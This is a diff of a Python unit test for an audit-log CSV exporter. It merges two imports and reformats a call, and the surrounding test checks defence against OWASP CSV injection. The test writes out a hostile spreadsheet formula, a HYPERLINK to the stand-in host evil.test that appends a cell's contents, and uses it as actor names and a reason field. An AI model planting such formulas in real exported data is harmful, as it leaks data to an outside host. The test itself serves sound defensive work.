@@ -10,8 +10,7 @@ from datetime import timedelta
 import pytest
 
 from mais_node.audit import balp
-from mais_node.audit.actors import Subject
-from mais_node.audit.actors import Actor
+from mais_node.audit.actors import Actor, Subject
 from mais_node.audit.export import CSV_COLUMNS, export, neutralised
 from mais_node.audit.memory import MemoryAuditLog
 from tests.unit.audit.audit_builders import NODE, T0, THREAT, actor, fill
@@ -94,7 +93,9 @@ def test_a_csv_cell_beginning_like_a_formula_is_prefixed_so_a_spreadsheet_shows_
     """OWASP CSV injection: a hostile reason, organisation or user name reaches the auditor's spreadsheet as text."""
     formula = f'{start}HYPERLINK("https://evil.test/?"&A1,"open")'
     hostile = Actor(formula, "client-X", formula, formula, None, (THREAT,))
-    event = balp.review_decision(NODE, T0, hostile, enquiry_id="req-1", item="is-known", outcome="permit", reason=formula)
+    event = balp.review_decision(
+        NODE, T0, hostile, enquiry_id="req-1", item="is-known", outcome="permit", reason=formula
+    )
     log.append(event)
     out = io.StringIO()
     export(log.scan(), None, None, "csv", out)
